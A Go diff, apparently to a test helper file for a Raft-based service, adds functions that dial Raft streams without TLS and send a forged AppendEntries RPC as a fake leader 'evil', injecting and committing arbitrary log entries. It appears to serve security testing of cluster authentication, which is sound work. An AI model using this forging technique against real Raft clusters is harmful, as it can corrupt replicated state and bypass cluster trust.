@@ -16,6 +16,8 @@ import (
 	"net/http"
 	"time"
 
+	"github.com/hashicorp/raft"
+
 	"github.com/raftlookupd/raftlookupd/fsm"
 )
 
@@ -204,4 +206,51 @@ func nestedBatch(origin string, inner fsm.Command) []byte {
 		Batch: []fsm.Command{{Op: fsm.OpCreateTopic, Topic: "x"}}})
 	// hdr ends with count 1 and the create-topic command: op byte, length 1, "x".
 	return append(hdr[:len(hdr)-3], in...)
+}
+
+// ---------------------------------------------------------------------------
+// raft streams
+
+// rawStreamLayer dials raft streams (kind byte 0xA1) from src, without TLS,
+// for hashicorp/raft's own client: a forged AppendEntries is then exactly
+// what a leader sends.
+type rawStreamLayer struct {
+	net.Listener
+	src net.IP
+}
+
+func (l rawStreamLayer) Dial(addr raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), timeout)
+	defer cancel()
+	c, err := rawStream(ctx, string(addr), l.src, nil, muxRaft)
+	if err != nil {
+		return nil, err
+	}
+	_ = c.SetDeadline(time.Time{})
+	return c, nil
+}
+
+// forgedAppend sends one AppendEntries as a leader "evil" of the given term
+// would, from src, to the Raft port at addr: entries appended after
+// prevIndex (whose term is prevTerm) and committed at once.
+func forgedAppend(addr string, src net.IP, term, prevIndex, prevTerm uint64, data ...[]byte) (raft.AppendEntriesResponse, error) {
+	var resp raft.AppendEntriesResponse
+	ln, err := net.Listen("tcp", "127.0.0.1:0") // the transport wants one; nothing dials it
+	if err != nil {
+		return resp, err
+	}
+	tr := raft.NewNetworkTransport(rawStreamLayer{ln, src}, 1, rawTimeout, io.Discard)
+	defer tr.Close()
+	req := &raft.AppendEntriesRequest{
+		RPCHeader:         raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("evil"), Addr: []byte(ln.Addr().String())},
+		Term:              term,
+		PrevLogEntry:      prevIndex,
+		PrevLogTerm:       prevTerm,
+		LeaderCommitIndex: prevIndex + uint64(len(data)),
+	}
+	for i, d := range data {
+		req.Entries = append(req.Entries, &raft.Log{Index: prevIndex + 1 + uint64(i), Term: term, Type: raft.LogCommand, Data: d})
+	}
+	err = tr.AppendEntries("evil-target", raft.ServerAddress(addr), req, &resp)
+	return resp, err
 }
